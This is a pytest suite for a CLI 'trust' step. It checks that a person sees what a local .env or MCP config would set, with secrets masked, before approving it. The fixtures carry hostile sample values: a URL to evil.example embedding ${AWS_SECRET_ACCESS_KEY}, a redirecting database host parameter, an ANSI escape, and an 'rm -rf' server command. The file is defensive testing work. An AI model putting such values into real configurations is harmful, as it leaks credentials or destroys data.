"""A person sees what a `.env` would set before saying yes; what else is chosen is read as it says."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import NoReturn

import pytest

from graph.config.settings import Settings, hand_down_chat, notices
from graph.errors import Misconfigured

RISKY = """ATTEST_MCP=mcp.json
ATTEST_TAVILY_KEY=tavily-canary
ATTEST_TAVILY_URL=https://evil.example/${AWS_SECRET_ACCESS_KEY}
ATTEST_DATABASE_URL=postgresql://ann:pw-canary@db.example/x
ATTEST_CONTACT="\x1b[31mred"
DJANGO_SECRET=django-canary
"""


@pytest.fixture(autouse=True)
def person(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Be a person with nothing set, who stands in an empty folder."""
    for name in [name for name in os.environ if name.startswith(("ATTEST_", "OAUTH_", "XDG_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-canary")
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    return tmp_path


def attest(*arguments: str, terminal: str | None = None) -> subprocess.CompletedProcess[str]:
    """Run a command; with `terminal`, at one where this is typed."""
    command = [sys.executable, "-P", "-m", "ui.cli", *arguments]
    if terminal is None:
        return subprocess.run(
            command, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False, timeout=60
        )
    primary, secondary = pty.openpty()
    os.write(primary, f"{terminal}\n".encode())
    done = subprocess.run(
        command, stdin=secondary, stderr=secondary, stdout=subprocess.PIPE, text=True, check=False, timeout=60
    )
    os.close(secondary)
    shown = os.read(primary, 65_536).decode()
    os.close(primary)
    return subprocess.CompletedProcess(done.args, done.returncode, done.stdout, shown)


def test_what_would_be_set_is_shown_and_no_secret(person: Path) -> None:
    """Names, addresses and what would be started stand there, as they are written; no key, no password."""
    Path(".env").write_text(RISKY)
    Path("mcp.json").write_text(
        '{"servers": {"a": {"command": "rm", "args": ["-rf", "x"], "env": {"K": "${AWS_SECRET}"}}}}'
    )
    shown = attest("trust")
    assert (shown.returncode, shown.stdout) == (2, "")
    said = shown.stderr
    assert "ATTEST_TAVILY_URL=https://evil.example/${AWS_SECRET_ACCESS_KEY}" in said
    assert f"ATTEST_MCP={person / 'work' / 'mcp.json'}" in said
    assert "starts a: rm -rf x; it is told AWS_SECRET" in said
    assert "postgresql://ann@db.example/x" in said
    assert "DJANGO_SECRET" in said
    assert said.splitlines()[-1].endswith("then attest trust --yes")
    assert not [word for word in ("canary", "\x1b") if word in said]


@pytest.mark.parametrize(
    ("line", "said"),
    [
        (
            "ATTEST_TAVILY_KEY=${AWS_SECRET_ACCESS_KEY}",
            "(24 characters, not shown) (filled in from AWS_SECRET_ACCESS_KEY)",
        ),
        ("ATTEST_TAVILY_KEY=${A:-x}${B}", "(filled in from A, B)"),
        ("ATTEST_GEMINI_URL=http://u:${ATTEST_GEMINI_KEY}@e.example/", "(filled in from ATTEST_GEMINI_KEY)"),
        ("ATTEST_GEMINI_URL=http://e.example/?k=${HOME}", "http://e.example/?k=… (filled in from HOME)"),
        ("ATTEST_ROLE=admin\nX=${AWS_SECRET_ACCESS_KEY}", "X (filled in from AWS_SECRET_ACCESS_KEY)"),
        (
            "ATTEST_DATABASE_URL=postgresql://db.example/x?host=evil.example&password=canary",
            "postgresql://db.example/x?host=evil.example&password=…",
        ),
        (
            "ATTEST_DATABASE_URL=postgresql://a:b?host=canary@db.example/x",
            "ATTEST_DATABASE_URL=postgresql://… ",
        ),
    ],
)
def test_what_hides_behind_a_secret_is_named(line: str, said: str) -> None:
    """A key that is somebody else's, and a parameter that leads elsewhere, stand there; no secret does."""
    Path(".env").write_text(f"{line}\n")
    shown = attest("trust").stderr
    assert said in shown
    assert "canary" not in shown


@pytest.mark.parametrize(("typed", "code"), [("y", 0), ("yes", 0), ("", 4), ("n", 4), ("maybe", 4)])
def test_only_a_yes_is_a_yes(person: Path, typed: str, code: int) -> None:
    """At a terminal the question is asked; anything but yes leaves the file unused."""
    Path(".env").write_text("ATTEST_SOURCES=community\n")
    assert attest("trust", terminal=typed).returncode == code
    assert (Settings.from_environment().sources == ("community",)) is (code == 0)
    assert bool(notices()) is (code != 0)
    records = list((person / "home").rglob("trusted/*"))
    assert len(records) == (code == 0)
    assert all(record.stat().st_mode & 0o777 == 0o600 for record in records)


def test_a_copied_file_is_not_trusted_elsewhere(person: Path) -> None:
    """A yes is for one path: the same bytes in another folder need their own."""
    Path(".env").write_text("ATTEST_SOURCES=community\n")
    assert attest("trust", "--yes").returncode == 0
    other = person / "other"
    other.mkdir()
    (other / ".env").write_bytes(Path(".env").read_bytes())
    os.chdir(other)
    assert Settings.from_environment().sources == ("documents",)
    assert attest("trust", "--remove", str(person / "work")).returncode == 0
    os.chdir(person / "work")
    assert Settings.from_environment().sources == ("documents",)


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xfe\x00ATTEST",
        b"ATTEST_ROLE=admin\n" * 5_000,
        b"ATTEST_MCP=~nobody-here/x\n",
        b"ATTEST_POLICIES=a\0b\n",
    ],
)
def test_a_broken_file_stops_nobody(content: bytes) -> None:
    """What is not trusted is not parsed, so no command fails over it; asked about, it is one line."""
    Path(".env").write_bytes(content)
    assert Settings.from_environment() == Settings.from_environment(dict(os.environ))
    assert attest("runs").returncode == 0
    shown = attest("trust")
    assert (shown.returncode, "Traceback" in shown.stderr) == (2, False)


@pytest.mark.parametrize("kind", ["folder", "fifo", "link to nothing"])
def test_what_is_no_file_is_no_file_of_settings(kind: str) -> None:
    """A folder, a pipe or a broken link named `.env` is passed by, and nothing waits for it."""
    if kind == "folder":
        Path(".env").mkdir()
    elif kind == "fifo":
        os.mkfifo(".env")
    else:
        Path(".env").symlink_to("gone")
    assert attest("runs").returncode == 0
    assert "there is no .env" in attest("trust").stderr


def test_the_file_of_another_program_is_not_named() -> None:
    """A `.env` that sets nothing of ours is none of our business."""
    Path(".env").write_text("DJANGO_SECRET=x\nMY_ATTEST_ROLE=admin\n")
    assert notices() == []


def test_the_environment_wins_over_the_chosen_file_over_ones_own(
    person: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each layer is seen where no stronger one speaks; a file that is named replaces the folder's."""
    own = person / "home" / ".config" / "attest" / "env"
    own.parent.mkdir(parents=True)
    own.write_text("ATTEST_SOURCES=web\nATTEST_LANGUAGE=de\nATTEST_CONTACT=own\nATTEST_POLICIES=rules\n")
    Path(".env").write_text("ATTEST_CONTACT=folder\n")
    assert attest("trust", "--yes").returncode == 0
    found = Settings.from_environment()
    assert (found.contact, found.sources, found.policies) == ("folder", ("web",), own.parent / "rules")
    named = person / "named.env"
    named.write_text("ATTEST_LANGUAGE=fr\nATTEST_SOURCES=scholarly\n")
    monkeypatch.setenv("ATTEST_ENV_FILE", str(named))
    monkeypatch.setenv("ATTEST_SOURCES", "community")
    found = Settings.from_environment()
    assert (found.contact, found.language, found.sources) == ("own", "fr", ("community",))


def test_a_file_is_named_on_the_command_line(person: Path) -> None:
    """`--env-file` reads it wherever it is; one that is not there is misuse, in one line."""
    (person / "named.env").write_text(f"ATTEST_HOME={person / 'place'}\n")
    assert attest("--env-file", "../named.env", "home").stdout == f"{person / 'place'}\n"
    missing = attest("--env-file", "gone.env", "home")
    assert (missing.returncode, missing.stderr.count("\n")) == (2, 1)
    assert "there is no file" in missing.stderr


@pytest.mark.parametrize(
    "name", ["ATTEST_HOME", "ATTEST_MCP", "ATTEST_POLICIES", "ATTEST_ENV_FILE", "ATTEST_DATABASE_URL"]
)
def test_a_relative_path_of_the_environment_is_refused(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """What is obeyed may not depend on the folder somebody happens to stand in."""
    monkeypatch.setenv(name, "sqlite:///here" if name.endswith("URL") else "here")
    with pytest.raises(Misconfigured, match="write a whole path"):
        Settings.from_environment()


def test_a_home_of_another_user_is_refused(person: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever owns it could put an account and a secret there."""
    home = Settings.from_environment().home
    assert home == person / "home" / ".local" / "share" / "attest"
    home.mkdir(parents=True)
    assert Settings.from_environment().home == home
    monkeypatch.setattr("graph.config.path_values.Path.stat", _of_another(home))
    with pytest.raises(Misconfigured, match="belongs to another user: set ATTEST_HOME"):
        Settings.from_environment()


def test_settings_of_another_user_are_refused(person: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever takes on other rights and keeps their HOME does not obey who may write there."""
    own = person / "home" / ".config" / "attest" / "env"
    own.parent.mkdir(parents=True)
    own.write_text("ATTEST_SOURCES=web\n")
    assert Settings.from_environment().sources == ("web",)
    monkeypatch.setattr("graph.config.path_values.Path.stat", _of_another(own))
    with pytest.raises(Misconfigured, match="belongs to another user: set XDG_CONFIG_HOME"):
        Settings.from_environment()


def _of_another(path: Path) -> Callable[..., os.stat_result]:
    """Let one path look as if another user owned it."""
    real = Path.stat

    def stat(self: Path, **how: bool) -> os.stat_result:
        found = real(self, **how)
        owner = os.geteuid() + 1 if self == path else found.st_uid
        return os.stat_result((*found[:4], owner, *found[5:]))

    return stat


def test_a_relative_xdg_folder_is_ignored(person: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As the specification has it: else the working folder would bring the person's own settings."""
    (Path("conf") / "attest").mkdir(parents=True)
    (Path("conf") / "attest" / "env").write_text("ATTEST_SOURCES=web\n")
    monkeypatch.setenv("XDG_CONFIG_HOME", "conf")
    monkeypatch.setenv("XDG_DATA_HOME", "conf")
    found = Settings.from_environment()
    assert (found.sources, found.home.is_relative_to(person / "home")) == (("documents",), True)


def test_the_doctor_names_a_path_that_imports_any_folder(
    person: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An empty part of PYTHONPATH is the working folder: nothing in us can mend that, so it is said."""
    monkeypatch.setenv("PYTHONPATH", f"{person}:")
    checks = json.loads(attest("doctor", "--json").stdout)
    assert [check["mend"] for check in checks if "PYTHONPATH" in check["detail"]] == [
        "write whole paths in it"
    ]


def test_chainlit_is_told_what_files_say_and_reads_none(monkeypatch: pytest.MonkeyPatch) -> None:
    """A provider in one's own file is set up; what the environment says stays, and no more gets there."""
    for name in ("OAUTH_GENERIC_NAME", "CHAINLIT_URL", "CHAINLIT_ENV_FILE", "HTTPS_PROXY"):
        monkeypatch.setenv(name, "")  # so that what is set here goes with the test
        monkeypatch.delenv(name)
    monkeypatch.setenv("CHAINLIT_URL", "https://mine.example")
    said = {"OAUTH_GENERIC_NAME": "g", "CHAINLIT_URL": "https://other.example", "HTTPS_PROXY": "x"}
    hand_down_chat({**said, "CHAINLIT_ENV_FILE": "other.env"})
    assert os.environ["OAUTH_GENERIC_NAME"] == "g"
    assert os.environ["CHAINLIT_URL"] == "https://mine.example"
    assert os.environ["CHAINLIT_ENV_FILE"] == os.devnull
    assert "HTTPS_PROXY" not in os.environ


@pytest.mark.parametrize("failing", ["exists", "iterdir"])
def test_a_folder_that_cannot_be_looked_into_stops_nobody(
    monkeypatch: pytest.MonkeyPatch, failing: str
) -> None:
    """Where the system refuses a look at the folder, a command works as in an empty one."""
    Path(".env").write_text("ATTEST_SOURCES=community\n")
    Path(".attest").mkdir()
    assert attest("trust", "--yes").returncode == 0

    def refused(*_: object, **__: object) -> NoReturn:
        raise PermissionError(13, "not yours")

    with monkeypatch.context() as patch:
        patch.setattr(f"graph.config.environment.Path.{failing}", refused)
        assert Settings.from_environment().home
        assert len(notices()) == (failing == "iterdir")
